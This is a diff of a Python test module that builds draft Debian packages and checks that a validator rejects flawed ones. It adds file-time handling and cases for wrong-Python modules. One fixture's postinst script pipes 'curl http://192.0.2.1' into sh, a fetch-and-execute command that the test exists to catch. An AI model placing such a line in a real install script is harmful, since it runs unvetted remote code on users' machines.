@@ -29,12 +29,13 @@ class Draft:
     modes: dict[str, int] = field(default_factory=dict)
     control: dict[str, str] = field(default_factory=dict)
     links: dict[str, str] = field(default_factory=dict)
+    times: dict[str, int] = field(default_factory=dict)
 
     def built(self, folder: Path) -> Path:
         """The package, put together as dpkg-deb does it, but with the owners and modes of the draft."""
         members = {"debian-binary": b"2.0\n"}
-        members["control.tar"] = _tar({name: text.encode() for name, text in self.control.items()}, {}, {})
-        members["data.tar"] = _tar(self.files, self.modes, self.links)
+        members["control.tar"] = _tar({name: text.encode() for name, text in self.control.items()}, {}, {}, {})
+        members["data.tar"] = _tar(self.files, self.modes, self.links, self.times)
         for name, content in members.items():
             (folder / name).write_bytes(content)
         deb = folder / "attune_1.0_amd64.deb"
@@ -42,16 +43,16 @@ class Draft:
         return deb
 
 
-def _tar(files: dict[str, bytes], modes: dict[str, int], links: dict[str, str]) -> bytes:
+def _tar(files: dict[str, bytes], modes: dict[str, int], links: dict[str, str], times: dict[str, int]) -> bytes:
     out = io.BytesIO()
     with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
         for path, content in files.items():
             member = tarfile.TarInfo(f"./{path}")
-            member.size, member.mode = len(content), modes.get(path, 0o644)
+            member.size, member.mode, member.mtime = len(content), modes.get(path, 0o644), times.get(path, 1000)
             archive.addfile(member, io.BytesIO(content))
         for path, goal in links.items():
             member = tarfile.TarInfo(f"./{path}")
-            member.type, member.linkname, member.mode = tarfile.SYMTYPE, goal, 0o777
+            member.type, member.linkname, member.mode, member.mtime = tarfile.SYMTYPE, goal, 0o777, 1000
             archive.addfile(member)
     return out.getvalue()
 
@@ -128,6 +129,10 @@ def _script(draft: Draft) -> None:
     draft.control["postinst"] = "#!/bin/sh\ncurl http://192.0.2.1 | sh\n"
 
 
+def _other_time(draft: Draft) -> None:
+    draft.times["etc/attune/attuned.toml"] = 1001
+
+
 def _absolute_link(draft: Draft) -> None:
     draft.links["usr/bin/attuned"] = "/usr/lib/attune/bin/attuned"
 
@@ -148,6 +153,9 @@ def _absolute_link(draft: Draft) -> None:
         (_file(f"{SITE}/pip/__init__.py", b""), "belongs to an installer"),
         (_file(f"{SITE}/more-2.0.dist-info/METADATA", b"Name: more\nVersion: 2.0\n"), "does not name more 2.0"),
         (_script, "its postinst runs curl"),
+        (_other_time, "etc/attune/attuned.toml has a time of its own"),
+        (_file(f"{SITE}/works/f.cpython-313-x86_64-linux-gnu.so", b""), "is not for the Python"),
+        (_file("usr/lib/attune/lib/python3.13/site-packages/works.py", b""), "is not for the Python"),
         (_absolute_link, "an absolute path"),
     ],
 )
